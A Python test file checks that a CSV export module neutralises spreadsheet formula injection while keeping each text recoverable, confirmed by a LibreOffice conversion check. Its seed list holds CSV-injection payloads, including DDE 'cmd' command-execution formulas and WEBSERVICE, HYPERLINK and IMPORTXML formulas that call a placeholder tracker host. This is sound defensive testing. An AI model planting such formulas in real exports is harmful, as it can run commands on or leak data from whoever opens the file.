"""No cell of an export is a formula to a real spreadsheet, and every text comes back as it was."""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recsys.export import neutralise, original
from tests.attacks import attacks

SEEDS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", '=HYPERLINK("http://tracker.example")', "=A1", "'=1+1", "''=1",
    "=WEBSERVICE(\"http://tracker.example\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "=1+1;=2+2",
    "=\n1+1", "＝1+1", "=SUM(1,1)*2",
    "%0A=1", "=DDE(\"a\";\"b\";\"c\")", "{=1+1}", "=IMPORTXML(\"http://tracker.example\";\"//a\")",
]  # fmt: skip
WRAPS = [
    "", " ", "  ", "\t", "\r", "\n", "\0", "\ufeff", "\u200b", "\u00a0", "'", '"', ";", ",", "\x1f", "\x0b", "\x0c", "|",
    "\u2028", "\u3000",
]  # fmt: skip
TEXTS = [wrap + seed + after for seed in SEEDS for wrap in WRAPS for after in ("", " ", '"')]


def formulas(path: Path) -> int:
    """How many cells LibreOffice takes for formulas."""
    profile = f"-env:UserInstallation=file://{path.parent}/profile"
    command = ["soffice", "--headless", profile, "--convert-to", "fods", "--outdir", str(path.parent), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return path.with_suffix(".fods").read_text("utf-8").count("table:formula")


def write(path: Path, texts: list[str]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([text, "x"] for text in texts)
    return path


@settings(max_examples=2000, deadline=None, database=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4))
def test_what_is_exported_and_read_again_is_the_same(texts):
    file = io.StringIO(newline="")
    csv.writer(file).writerow([neutralise(text) for text in texts])
    [row] = csv.reader(io.StringIO(file.getvalue(), newline=""), strict=True)

    assert [original(cell) for cell in row] == texts


def test_nothing_that_a_spreadsheet_runs_stays_as_it_is():
    for text in (*TEXTS, *attacks()):
        assert original(neutralise(text)) == text
        assert not neutralise(text).lstrip(" \0\t\ufeff\u200b\u00a0").startswith(("=", "+", "-", "@")), repr(text)


@pytest.mark.release
@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="needs LibreOffice: `apt-get install libreoffice-calc-nogui`"
)
def test_libreoffice_finds_no_formula(tmp_path):
    assert formulas(write(tmp_path / "raw.csv", TEXTS)) > 20, "the control: raw texts are formulas"
    assert formulas(write(tmp_path / "safe.csv", [neutralise(text) for text in (*TEXTS, *attacks())])) == 0
